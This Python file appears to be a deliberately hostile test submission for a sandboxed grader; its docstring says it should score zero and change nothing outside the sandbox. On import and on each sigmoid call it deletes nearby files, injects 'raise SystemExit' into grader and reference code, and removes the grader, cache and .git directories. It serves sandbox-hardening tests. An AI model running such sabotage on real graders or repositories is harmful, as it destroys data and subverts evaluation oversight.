"""Hostile: delete its own scratch files and try to delete or modify the repository (reference,
graders, the original submission), the oracle cache and the grader's session files.
Honest score 0 (it returns zeros); nothing outside the sandbox may change.
"""
import glob
import os
import shutil

import numpy as np

TARGETS = [
    "/work/main/reference", "/work/main/graders", "/work/main/.grader-cache",
    "/work/main/tests/submissions", "/work/main/student_template", "/work/main/.git",
    "/work/main/pyproject.toml", os.path.dirname(os.path.abspath(__file__)),
]


def _vandalise():
    for name in os.listdir("."):
        try:
            os.remove(name)
        except OSError:
            pass
    for target in TARGETS + glob.glob("/tmp/grader-*") + glob.glob("/tmp/grader-*/*"):
        try:
            if os.path.isdir(target):
                for path in glob.glob(os.path.join(target, "**", "*.py"), recursive=True):
                    try:
                        with open(path, "a") as f:
                            f.write("\nraise SystemExit('vandalised')\n")
                    except OSError:
                        pass
                shutil.rmtree(target, ignore_errors=True)
            else:
                with open(target, "a") as f:
                    f.write("vandalised\n")
        except OSError:
            pass
    for parent in ("..", "../in", "../module", "../.."):
        for name in os.listdir(parent) if os.path.isdir(parent) else []:
            try:
                os.remove(os.path.join(parent, name))
            except OSError:
                pass


_vandalise()


def sigmoid(x):
    _vandalise()
    return np.zeros(np.shape(x))
